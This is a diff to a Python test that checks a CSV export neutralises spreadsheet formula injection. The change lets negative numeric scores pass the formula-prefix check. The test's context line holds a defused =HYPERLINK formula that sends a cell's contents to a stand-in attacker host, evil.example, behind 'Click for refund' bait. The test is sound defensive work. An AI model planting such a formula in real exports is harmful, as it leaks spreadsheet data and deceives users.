@@ -230,6 +230,9 @@ def test_csv_export_defuses_formulas_from_a_hostile_mention(tmp_path: Path,
     assert rows["5"]["text"] == 'plain words, "quoted"', "harmless text is unchanged"
     for row in rows.values():
         for field, value in row.items():
+            if field in ("sentiment", "priority", "followers") and value:
+                float(value)  # a negative score is a number, not a formula
+                continue
             assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (field, value)
     assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click for refund"")"' in raw, "quoted cell"
 
